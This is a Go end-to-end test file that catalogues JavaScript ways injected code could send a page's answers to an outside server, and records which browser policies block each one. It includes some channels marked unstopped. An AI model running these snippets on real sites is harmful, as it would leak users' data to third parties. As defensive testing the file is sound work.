package e2e

// A verdict says what stops an attempt to tell somebody what was answered.
type verdict uint8

const (
	// byPolicy is stopped by the Content-Security-Policy, with its Trusted
	// Types, or by the Permissions-Policy: in every browser that we know.
	byPolicy verdict = iota

	// byList is stopped by the Connection-Allowlist alone, so only in browsers
	// that have it.
	byList

	// unstopped is stopped by nothing.
	unstopped

	// never is nothing that the browser would do, whatever a site allows.
	never
)

// An attempt is one way in which code that does not belong on the page could try
// to tell somebody what was answered. It is the body of an asynchronous function
// that knows
//
//	to    an address of somebody else's server, used by no other attempt
//	own   a path at our server with a mark of this attempt in its query
//	mark  the same to be put behind another path of ours
//	code  a program, as text, which shows that it runs
//	add   makes an element with properties and puts it into the page
//	set   the same with attributes
type attempt struct {
	name    string
	verdict verdict
	why     string // of what is not stopped
	try     string
}

// attempts are those that leave their page where it is.
var attempts = []attempt{
	// Requests.
	{"fetch", byPolicy, "", `await fetch(to, {mode: "no-cors"})`},
	{"fetch that outlives the page", byPolicy, "", `await fetch(to, {method: "POST", mode: "no-cors", keepalive: true, body: "x"})`},
	{"fetch later", byPolicy, "", `fetchLater(to, {activateAfter: 0})`},
	{"XMLHttpRequest", byPolicy, "", `const x = new XMLHttpRequest(); x.open("GET", to); x.send()`},
	{"beacon", byPolicy, "", `navigator.sendBeacon(to, "x")`},
	{"event source", byPolicy, "", `new EventSource(to)`},
	{"web socket", byPolicy, "", `new WebSocket(to.replace("http", "ws"))`},
	{"web transport", byPolicy, "", `new WebTransport(to.replace("http:", "https:"))`},
	{"background fetch", byPolicy, "", `await (await navigator.serviceWorker.ready).backgroundFetch.fetch("x", [to])`},
	{"payment method", byPolicy, "", `await new PaymentRequest([{supportedMethods: to}], {total: {label: "x", amount: {currency: "CAD", value: "1"}}}).canMakePayment()`},
	{"identity provider", byPolicy, "", `await navigator.credentials.get({identity: {providers: [{configURL: to, clientId: "x"}]}})`},

	// Pictures, sounds and styles.
	{"image", byPolicy, "", `new Image().src = to`},
	{"image set", byPolicy, "", `new Image().srcset = to + " 1x"`},
	{"image button", byPolicy, "", `set("input", {type: "image", src: to})`},
	{"background", byPolicy, "", `add("div").style.backgroundImage = "url(" + to + ")"`},
	{"mask", byPolicy, "", `add("div", {textContent: "x"}).style.maskImage = "url(" + to + ")"`},
	{"filter", never, "filters come from where the page comes from", `add("div", {textContent: "x"}).style.filter = "url(" + to + "#x)"`},
	{"SVG image", byPolicy, "", `svg("image", {href: to, width: 9, height: 9})`},
	{"SVG use", never, "pictures are made of what comes from where the page comes from", `svg("use", {href: to + "#x"})`},
	{"SVG filter image", byPolicy, "", `svg("filter", {id: "f"}).append(node("feImage", {href: to})); svg("rect", {width: 9, height: 9, filter: "url(#f)"})`},
	{"style sheet", byPolicy, "", `add("link", {rel: "stylesheet", href: to})`},
	{"style element", byPolicy, "", `add("style", {textContent: "@import url(" + to + ")"})`},
	{"style attribute", byPolicy, "", `set("div", {style: "background: url(" + to + ")"})`},
	{"style sheet's import", byPolicy, "", `document.styleSheets[0].insertRule("@import url(" + to + ")", 0)`},
	{"adopted style sheet", byPolicy, "", `const s = new CSSStyleSheet(); s.replaceSync(".adopted { background: url(" + to + ") }"); document.adoptedStyleSheets.push(s); add("div", {className: "adopted"})`},
	{"adopted style sheet's import", never, "the browser leaves it out", `const s = new CSSStyleSheet(); s.replaceSync("@import url(" + to + ")"); document.adoptedStyleSheets.push(s)`},
	{"font", byPolicy, "", `await new FontFace("x", "url(" + to + ")").load()`},
	{"font rule", byPolicy, "", `document.styleSheets[0].insertRule("@font-face { font-family: y; src: url(" + to + ") }", document.styleSheets[0].cssRules.length); add("div", {textContent: "x"}).style.fontFamily = "y"`},
	{"video", byPolicy, "", `add("video", {src: to})`},
	{"video's poster", byPolicy, "", `add("video", {poster: to})`},
	{"video's source", byPolicy, "", `add("video").append(Object.assign(document.createElement("source"), {src: to}))`},
	{"audio", byPolicy, "", `add("audio", {src: to, preload: "auto"})`},
	{"subtitles", byPolicy, "", `const v = add("video", {crossOrigin: "anonymous"}); v.append(Object.assign(document.createElement("track"), {src: to, default: true})); v.textTracks[0].mode = "showing"`},
	{"object", byPolicy, "", `add("object", {data: to})`},
	{"embed", byPolicy, "", `add("embed", {src: to})`},
	{"frame", byList, "", `add("iframe", {src: to})`},
	{"empty frame's fetch", byPolicy, "", `await add("iframe").contentWindow.fetch(to, {mode: "no-cors"})`},
	{"empty frame's image", byPolicy, "", `new (add("iframe").contentWindow.Image)().src = to`},
	{"empty frame's address", byList, "", `add("iframe").contentWindow.location = to`},
	{"fenced frame", never, "it takes addresses from the browser only", `add("fencedframe", {config: {url: to}}); set("fencedframe", {src: to})`},

	// What a link element asks for.
	{"prefetch", byPolicy, "", `add("link", {rel: "prefetch", href: to})`},
	{"preload", byPolicy, "", `add("link", {rel: "preload", as: "image", href: to})`},
	{"preload of a module", byPolicy, "", `add("link", {rel: "modulepreload", href: to})`},
	{"prerender", never, "browsers have given it up", `add("link", {rel: "prerender", href: to})`},
	{"speculation rules", byPolicy, "", `add("script", {type: "speculationrules", textContent: JSON.stringify({prefetch: [{source: "list", urls: [to], eagerness: "immediate"}]})})`},
	{"icon", byPolicy, "", `add("link", {rel: "icon", href: to}, document.head)`},
	{"compression dictionary", byPolicy, "", `add("link", {rel: "compression-dictionary", href: to})`},

	// Forms and links that stay on the page.
	{"form in a frame", byList, "", `add("iframe", {name: "into"}); add("form", {action: to, target: "into"}).submit()`},
	{"ping", byPolicy, "", `const a = add("a", {href: "#x", ping: to}); a.click()`},
	{"attribution", never, "it is not in this browser, or waits to be allowed", `set("img", {attributionsrc: to})`},

	// Connections between browsers.
	{"WebRTC, STUN", byList, "", `peer({urls: "stun:" + host})`},
	{"WebRTC, TURN over UDP", byList, "", `peer({urls: "turn:" + host, username: "x", credential: "x"})`},
	{"WebRTC, TURN over TCP", byList, "", `peer({urls: "turn:" + host + "?transport=tcp", username: "x", credential: "x"})`},

	// Programs from elsewhere.
	{"script", byPolicy, "", `add("script", {src: to})`},
	{"module", byPolicy, "", `add("script", {type: "module", src: to})`},
	{"SVG script", byPolicy, "", `svg("script", {href: to})`},
	{"import", byPolicy, "", `await import(to)`},
	{"worker", never, "workers come from where the page comes from", `new Worker(to)`},
	{"worklet for painting", byPolicy, "", `await CSS.paintWorklet.addModule(to)`},
	{"worklet for sound", byPolicy, "", `await new OfflineAudioContext(1, 1, 44100).audioWorklet.addModule(to)`},

	// Programs from the page's own text.
	{"import of text", byPolicy, "", `await import("data:text/javascript," + encodeURIComponent(code))`},
	{"script's text", byPolicy, "", `add("script", {textContent: code})`},
	{"script of text", byPolicy, "", `add("script", {src: "data:text/javascript," + encodeURIComponent(code)})`},
	{"worker of a blob", byPolicy, "", `new Worker(URL.createObjectURL(new Blob([beckon])))`},
	{"worker of text", byPolicy, "", `new Worker("data:text/javascript," + encodeURIComponent(beckon))`},
	{"shared worker of text", byPolicy, "", `new SharedWorker("data:text/javascript," + encodeURIComponent(beckon))`},
	{"eval", byPolicy, "", `(0, eval)(code)`},
	{"Function", byPolicy, "", `Function(code)()`},
	{"setTimeout of text", byPolicy, "", `setTimeout(code)`},
	{"handler in an attribute", byPolicy, "", `set("a", {onclick: code}).click()`},
	{"innerHTML", byPolicy, "", `add("div").innerHTML = markup`},
	{"outerHTML", byPolicy, "", `add("div").outerHTML = markup`},
	{"insertAdjacentHTML", byPolicy, "", `add("div").insertAdjacentHTML("beforeend", markup)`},
	{"setHTMLUnsafe", byPolicy, "", `add("div").setHTMLUnsafe(markup)`},
	{"contextual fragment", byPolicy, "", `add("div").append(document.createRange().createContextualFragment(markup))`},
	{"frame of text", byPolicy, "", `add("iframe", {srcdoc: markup})`},
	{"frame of a blob", byPolicy, "", `add("iframe", {src: URL.createObjectURL(new Blob([markup], {type: "text/html"}))})`},
	{"another base", byPolicy, "", `const b = add("base", {href: to}, document.head); if (document.baseURI.startsWith(to)) (0, globalThis).ran[mark] = true; b.remove()`},

	// Our own server, which would only have to listen.
	{"our server: fetch", byPolicy, "", `await fetch(own)`},
	{"our server: beacon", byPolicy, "", `navigator.sendBeacon(own, "x")`},
	{"our server: image", byPolicy, "", `new Image().src = own`},
	{"our server: script", byPolicy, "", `add("script", {src: own})`},
	{"our server: worker", byPolicy, "", `new Worker(own)`},
	{"our server: service worker", byPolicy, "", `await navigator.serviceWorker.register("/worker.js" + mark, {scope: "/x/"})`},
	{"our server: frame", byPolicy, "", `add("iframe", {src: own})`},
	{"our server: prefetch", byPolicy, "", `add("link", {rel: "prefetch", href: own})`},
	{"our server: form", byPolicy, "", `add("iframe", {name: "ours"}); add("form", {method: "post", action: own, target: "ours"}).submit()`},
	{"our server: import", byPolicy, "", `await import(own)`},
	{"our server: style sheet", byPolicy, "", `add("link", {rel: "stylesheet", href: own})`},
	{"our server: the program's address", unstopped, "a policy does not look at what follows a path", `await fetch(document.querySelector("[data-wasm]").dataset.wasm + mark)`},
	{"our server: an icon's address", unstopped, "a policy does not look at what follows a path", `new Image().src = "/icon.svg" + mark`},
	{"our server: a script's address", unstopped, "a policy does not look at what follows a path", `await import(document.querySelector("[data-wasm]").src + mark)`},
	{"our server: a style sheet's address", unstopped, "a policy does not look at what follows a path", `add("link", {rel: "stylesheet", href: document.querySelector("link[rel=stylesheet]").href + mark})`},
	{"our server: cookie", unstopped, "goes with the next request to where the page came from", `document.cookie = mark.slice(1); await fetch("/robots.txt")`},
}

// apart are those that leave their page, or open another, or would be undone by
// what does.
var apart = []attempt{
	{"connection ahead", byList, "", `add("link", {rel: "preconnect", href: to}, document.head)`},
	{"javascript: link", byPolicy, "", `add("a", {href: "javascript:void (" + code + ")"}).click()`},
	{"going to another address", byList, "", `location = to`},
	{"replacing the address", byList, "", `location.replace(to)`},
	{"navigation.navigate", byList, "", `navigation.navigate(to)`},
	{"link", byList, "", `add("a", {href: to}).click()`},
	{"link to a new tab", byList, "", `add("a", {href: to, target: "_blank"}).click()`},
	{"link for download", byList, "", `add("a", {href: to, download: ""}).click()`},
	{"refresh", byList, "", `set("meta", {"http-equiv": "refresh", content: "0;url=" + to}, document.head)`},
	{"window.open", byList, "", `open(to)`},
	{"empty window's address", byList, "", `open("").location = to`},
	{"empty window's fetch", byPolicy, "", `await open("").fetch(to, {mode: "no-cors"})`},
	{"window of a blob", byPolicy, "", `open(URL.createObjectURL(new Blob(["<script>new Image().src = '" + to + "'</scr" + "ipt>"], {type: "text/html"})))`},
	{"form", byList, "", `add("form", {action: to}).submit()`},
	{"form to a new tab", byList, "", `add("form", {action: to, target: "_blank"}).submit()`},
	{"our server: going to another path", unstopped, "a page may always be left for another", `location = own`},
	{"our server: another path and loading it", unstopped, "a page may always be loaded again", `history.pushState(null, "", own); location.reload()`},
	{"our server: window.open", unstopped, "a page may always be left for another", `open(own)`},
	{"our server: form of the page", byPolicy, "", `add("form", {method: "post", action: own}).submit()`},
}

// inWorker are those of the worker that keeps the site.
var inWorker = []attempt{
	{"worker's fetch", byPolicy, "", `await fetch(to, {mode: "no-cors"})`},
	{"worker's web socket", byPolicy, "", `new WebSocket(to.replace("http", "ws"))`},
	{"our server: worker's fetch", unstopped, "it has to load the site", `await fetch(own)`},
}
